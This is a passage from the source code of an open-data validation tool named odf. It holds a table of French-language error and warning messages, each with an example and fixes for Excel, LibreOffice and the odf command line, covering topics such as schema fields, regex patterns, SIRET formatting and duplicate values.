    schema: 'écrivez l’exemple comme une chaîne qui passe les contraintes du champ (`"example": "75001"`).',
    odf: SCHEMA_ONLY,
  },
  'schema-field-duplicate': {
    explain:
      'Le schéma déclare deux champs du même nom : une colonne du fichier ne peut correspondre qu’à l’un des deux.',
    example: { loc: { fieldName: 'id' }, params: { firstFieldNumber: 1, fieldNumber: 4 } },
    schema: 'renommez ou supprimez l’un des deux champs.',
    odf: SCHEMA_ONLY,
  },
  'schema-field-ignored': {
    explain:
      'Une règle d’un champ du schéma ne peut pas s’appliquer (format inconnu pour son type, contrainte qui ne s’applique pas au type, contrainte écrite hors de `constraints`) : elle est ignorée, comme le font Frictionless et Validata.',
    example: {
      loc: { fieldName: 'statut' },
      params: { kind: 'misplaced-constraint', constraint: 'enum', type: 'string' },
    },
    schema: 'déplacez la contrainte dans `constraints`, ou corrigez le format selon Table Schema.',
    odf: SCHEMA_ONLY,
  },
  'schema-field-type-unknown': {
    explain:
      'Un champ du schéma a un type que Table Schema ne connaît pas : ses valeurs sont lues comme du texte, sans vérification de type.',
    example: { loc: { fieldName: 'montant' }, params: { type: 'Number', suggestion: 'number' } },
    schema: 'utilisez un type de Table Schema, en minuscules : string, number, integer, boolean, date…',
    odf: SCHEMA_ONLY,
  },
  'schema-key-unknown-field': {
    explain:
      'La clé primaire ou une clé étrangère du schéma désigne un champ qui n’existe pas : la clé ne peut pas être vérifiée.',
    example: { params: { key: 'primaryKey', path: '/primaryKey', name: 'identifiant' } },
    schema: 'corrigez le nom du champ dans `primaryKey` ou `foreignKeys`.',
    odf: SCHEMA_ONLY,
  },
  'schema-not-recognized': {
    explain:
      'Sans --schema, odf cherche dans le catalogue le schéma dont les champs ressemblent le plus aux en-têtes du fichier. Aucun ne ressemble assez : seule la structure (en-têtes, lignes, cellules) est vérifiée.',
    example: {
      params: { reason: 'too-weak', closest: [{ name: 'scdl/budget', version: '0.8.3', score: 0.41 }] },
    },
    odf: 'indiquez le schéma avec --schema (la liste : `odf schemas list --search MOT`) et, si les en-têtes diffèrent, un fichier de correspondance (`odf map`).',
  },
  'schema-pattern-budgeted': {
    explain:
      'Le motif du champ utilise une référence arrière (\\1, (?P=nom)) ou une assertion avant ((?=…), (?!…)), qui n’existent pas dans les expressions régulières XML Schema de Table Schema. odf le vérifie quand même, avec un budget de calcul par cellule : une valeur qui le dépasse est signalée comme non vérifiée (pattern-not-checked) au lieu de bloquer la validation.',
    example: { loc: { fieldName: 'site_url' }, params: { feature: 'backreference' } },
    schema:
      'réécrivez le motif sans référence arrière ni assertion : odf le vérifie alors en temps linéaire, comme tout motif Table Schema.',
    odf: SCHEMA_ONLY,
  },
  'schema-pattern-invalid': {
    explain:
      'Le motif (pattern) d’un champ n’est pas une expression régulière utilisable : la contrainte n’est pas vérifiée, ce qui peut laisser passer des valeurs fausses.',
    example: { loc: { fieldName: 'code' }, params: { reason: 'parenthèse non fermée' } },
    schema:
      'corrigez l’expression (les motifs de Table Schema sont des expressions régulières XML Schema, sans référence arrière).',
    odf: SCHEMA_ONLY,
  },
  'schema-pattern-translated': {
    explain:
      'Le motif d’un champ utilise une syntaxe propre à Python (celle de Validata), qu’odf traduit pour la vérifier de la même façon. Rien à faire : c’est une information.',
    example: { loc: { fieldName: 'code' }, params: { changes: ['(?i) → drapeau i'] } },
    schema: 'pour être lu partout, écrivez le motif en syntaxe XML Schema, celle de Table Schema.',
    odf: SCHEMA_ONLY,
  },
  'identifier-spaces': {
    explain:
      'Le numéro SIRET ou SIREN est valide, mais écrit avec des espaces ou des points pour être lisible (« 213 300 049 00012 »). Le schéma l’accepte ; les outils qui croisent les données (annuaire des entreprises, Validata) attendent la forme compacte, 14 ou 9 chiffres collés.',
    example: {
      input: 'siret\n213 300 049 00012',
      loc: { line: 2, fieldName: 'siret' },
      params: { identifier: 'siret', compact: '21330004900012' },
      value: '213 300 049 00012',
    },
    excel:
      'Ctrl+H : remplacez l’espace par rien dans la colonne (colonne au format Texte, pour garder les zéros).',
    libreoffice:
      'Ctrl+H : remplacez l’espace par rien dans la colonne (colonne au format Texte, pour garder les zéros).',
    odf: 'odf normalize écrit la forme compacte.',
  },
  'label-content-mismatch': {
    explain:
      'Le nom de la colonne correspond à un champ (par son titre ou un synonyme connu), mais ses valeurs n’ont pas la forme que le champ attend : « Nature » qui contient des libellés là où le champ attend un code. odf ne l’associe pas sans votre accord, pour ne pas écrire des valeurs dans le mauvais champ.',
    example: {
      input: 'Nature\nAchats de fournitures',
      loc: { column: 'Nature', fieldName: 'BGT_CONTNAT' },
      params: {
        label: 'Nature',
        fieldName: 'BGT_CONTNAT',
        kind: 'synonym',
        fit: 0,
        refused: ['Achats de fournitures', 'Subventions'],
      },
    },
    odf: 'si c’est bien elle, dites-le dans un fichier de correspondance (`odf map -o correspondance.yaml`, puis --map), ou renommez la colonne ; sinon, la colonne qui alimente le champ manque.',
  },
  'split-error': {
    explain:
      'Une colonne qui contient deux valeurs — une paire de coordonnées (« 48.8566, 2.3522 », [2.3522, 48.8566], POINT(2.3522 48.8566)) ou une date avec son heure — alimente deux champs du schéma, chacun par sa partie (un fichier de correspondance le dit, ou vous avez accepté la proposition d’odf). Sur cette ligne, la valeur ne se découpe pas : elle n’a pas la forme des autres, ou ses coordonnées, en France métropolitaine, sont dans l’ordre inverse de celui de la colonne. Les deux champs restent vides sur la ligne plutôt que de recevoir une valeur devinée.',
    example: {
      input: 'nom;geo_point_2d\nPiscine;à vérifier',
      loc: { line: 2, rowNumber: 2, column: 'geo_point_2d' },
      params: {
        label: 'geo_point_2d',
        columnNumber: 2,
        parts: 'coordinates',
        reason: 'form',
        fields: ['EQUIP_LONG', 'EQUIP_LAT'],
        order: 'lat-lon',
      },
      value: 'à vérifier',
    },
    excel: `écrivez la valeur comme les autres lignes de la colonne (même forme, même ordre). ${FIND_EXCEL}`,
    libreoffice: `écrivez la valeur comme les autres lignes de la colonne (même forme, même ordre). ${FIND_CALC}`,
    odf: 'le rapport de normalize compte ces cellules comme non écrites (`cells`, par colonne).',
  },
  'number-spaces': {
    explain:
      'Des nombres sont entourés d’espaces (« 2.375517 »). Comme Frictionless et Validata, odf les lit comme des nombres valides (les espaces autour sont ignorés pour les nombres, pas pour les dates ni les booléens) ; ils restent inutiles et gênent certains tableurs.',
    example: {
      input: 'lat\n"2.375517 "',
      loc: { fieldName: 'lat' },
      params: { count: 12, firstLine: 2 },
      value: '2.375517 ',
    },
    excel: 'dans une colonne voisine, =SUPPRESPACE(A2), puis copiez et collez les valeurs à la place.',
    libreoffice: 'dans une colonne voisine, =SUPPRESPACE(A2), puis copiez et collez les valeurs à la place.',
    odf: 'odf normalize retire les espaces.',
  },
  'required-field-unsourced': {
    explain:
      'Un champ obligatoire n’a pas de colonne alors que des colonnes du fichier ne servent à rien : sa source est peut-être l’une d’elles, sous un nom qu’odf n’a pas osé associer (« montant_subvention » pour « montant »). Écrire le fichier laisserait le champ vide et perdrait ces colonnes : odf normalize n’écrit rien tant que vous n’avez pas vu la correspondance.',
    example: {
      params: {
        fields: ['montant'],
        columns: [{ label: 'montant_subvention', filled: 12 }],
        command: 'odf map subventions.csv --schema scdl/subventions@2.1.1',
      },
    },
    excel:
      'si une colonne contient bien le champ, renommez son en-tête du nom exact du champ ; sinon insérez la colonne et remplissez-la.',
    libreoffice:
      'si une colonne contient bien le champ, renommez son en-tête du nom exact du champ ; sinon insérez la colonne (clic droit › Insérer des colonnes) et remplissez-la.',
    odf: 'vérifiez avec `odf map FICHIER -o correspondance.yaml`, corrigez ce fichier, puis `odf normalize FICHIER --map correspondance.yaml` ; --accept-suggestions applique les suggestions ; --allow-missing-required écrit quand même, champ vide.',
  },
  'schema-version-chosen': {
    explain:
      'Le schéma a été indiqué sans version (--schema scdl/budget) : odf a lu le fichier selon la version à laquelle ses en-têtes et ses valeurs correspondent le mieux (la plus récente à égalité), et dit laquelle et pourquoi.',
    example: {
      params: {
        name: 'etalab/schema-lieux-covoiturage',
        version: '0.2.8',
        latest: '0.3.1',
        reason: 'older-fits-better',
        score: 1,
        latestScore: 0.82,
        versions: 6,
      },
    },
    odf: 'pour une version précise : --schema NOM@VERSION.',
  },
  'schema-version-outdated': {
    explain:
      'Le fichier suit une version du schéma plus ancienne que la plus récente. Il est vérifié selon la version qu’il suit (sinon chaque différence serait une erreur) ; le message dit ce que la version récente change pour ce fichier, pour le mettre à jour.',
    example: {
      params: {
        name: 'etalab/schema-lieux-covoiturage',
        version: '0.2.8',
        latest: '0.3.1',
        changes: [
          { kind: 'removed', field: 'id_lieu' },
          { kind: 'now-required', field: 'id_local' },
        ],
        changeCount: 2,
      },
    },
    odf: 'pour vérifier selon la dernière version : --schema NOM@VERSION ; `odf map` montre les colonnes à renommer ou ajouter.',
  },
  'schema-recognized': {
    explain:
      'Sans --schema, odf a reconnu le schéma du fichier d’après ses en-têtes, avec le score indiqué. Le rapport le dit pour que vous puissiez vérifier que c’est le bon.',
    example: { params: { name: 'scdl/budget', version: '0.8.3', score: 0.97 } },
    odf: 'si ce n’est pas le bon, indiquez-le avec --schema (par exemple --schema scdl/budget@0.8.3).',
  },
  'sheet-chosen': {
    explain:
      'Le classeur a plusieurs feuilles ; odf lit celle qu’il indique (la première qui ressemble à un tableau, ou celle dont les en-têtes correspondent le mieux au schéma).',
    example: { params: { sheets: ['Notice', 'Données'], sheet: 'Données' } },
    odf: 'pour une autre feuille : --sheet NOM ou --sheet NUMÉRO.',
  },
  'sheet-error-cell': {
    explain:
      'Une cellule du classeur contient une erreur de formule (#DIV/0!, #N/A, #REF!…) au lieu d’une valeur : c’est ce texte d’erreur qui serait publié.',
    example: { params: { cell: 'D7' }, value: '#DIV/0!' },
    excel:
      'corrigez la formule, ou copiez la colonne puis Collage spécial › Valeurs pour ne publier que des valeurs.',
    libreoffice: 'corrigez la formule, ou Édition › Collage spécial › Valeurs seulement.',
  },
  'sheet-merged-cells': {
    explain:
      'La feuille contient des cellules fusionnées. Seule la première cellule d’une fusion garde la valeur : les lignes suivantes sont lues vides, et le tableau perd des valeurs à la publication.',
    example: { params: { count: 2, ranges: ['A2:A5', 'C8:D8'] } },
    excel:
      'sélectionnez tout (Ctrl+A) › Accueil › Fusionner et centrer › Annuler Fusionner cellules, puis recopiez la valeur dans chaque ligne.',
    libreoffice:
      'sélectionnez tout › Format › Fusionner et annuler la fusion de cellules › Annuler la fusion des cellules, puis recopiez les valeurs.',
  },
  siren,
  siret,
  'sum-columns-value': {
    explain:
      'Le schéma dit qu’une colonne est la somme d’autres colonnes de la même ligne, et le total ne correspond pas.',
    example: {
      input: 'total,part_a,part_b\n100,40,50',
      loc: { line: 2, fieldName: 'total' },
      params: { columns: ['part_a', 'part_b'], sum: 90 },
      value: '100',
    },
    excel:
      'remplacez le total par une formule `=B2+C2` pour qu’il reste juste, puis collez les valeurs avant l’export.',
    libreoffice:
      'remplacez le total par une formule `=B2+C2`, puis Collage spécial › Valeurs seulement avant l’export.',
  },
  'type-error': {
    explain:
      'La valeur n’est pas du type que le champ attend : un nombre écrit à la française (virgule décimale, espaces entre milliers), une date en JJ/MM/AAAA au lieu de AAAA-MM-JJ, un booléen « oui » au lieu de « true »… Les machines ne sauraient pas la lire.',
    example: {
      input: 'montant\n125 000,00',
      loc: { line: 2, fieldName: 'montant' },
      params: { type: 'number', format: 'default', repaired: '125000.00' },
      value: '125 000,00',
    },
    excel:
      'mettez la colonne au format Texte ou Standard avant l’export ; pour les nombres, Fichier › Options › Options avancées › décochez « Utiliser les séparateurs système » et choisissez le point ; pour les dates, Format de cellule › Personnalisée › `aaaa-mm-jj`.',
    libreoffice:
      'Format › Cellules › Nombres : pour les dates, le code de format `AAAA-MM-JJ` ; pour les nombres, la langue « Anglais (États-Unis) » donne le point décimal ; à l’enregistrement CSV, décochez « Enregistrer le contenu de la cellule comme affiché » si besoin.',
    odf: 'odf normalize réécrit ce qui ne peut se lire que d’une façon (nombres à la française, dates jour/mois/année, booléens) et signale le reste.',
  },
  'unique-error': {
    explain:
      'Le champ exige des valeurs uniques (un identifiant) et cette valeur est déjà apparue plus haut. Souvent une ligne copiée deux fois, ou un identifiant recopié par erreur.',
    example: {
      input: 'id\n1\n2\n2',
      loc: { line: 4, fieldName: 'id' },
      params: { firstRowNumber: 3, firstLine: 3 },
      value: '2',
    },
    excel:
      'Accueil › Mise en forme conditionnelle › Règles de mise en surbrillance des cellules › Valeurs en double colore les doublons de la colonne.',
    libreoffice: 'Format › Conditionnelle › Condition « est en double » colore les doublons de la colonne.',
  },
  'year-interval-value': {
    explain:
      'Le schéma attend une période d’années « AAAA/AAAA » (par exemple 2023/2024), la seconde après la première.',
    example: {
      input: 'periode\n2024/2023',
      loc: { line: 2, fieldName: 'periode' },
      params: { reason: 'order', suggestion: '2023/2024' },
      value: '2024/2023',
    },
    excel: `écrivez les deux années dans l’ordre, séparées par une barre oblique, colonne au format Texte. ${FIND_EXCEL}`,
    libreoffice: `écrivez les deux années dans l’ordre, séparées par une barre oblique, colonne au format Texte. ${FIND_CALC}`,
  },
};
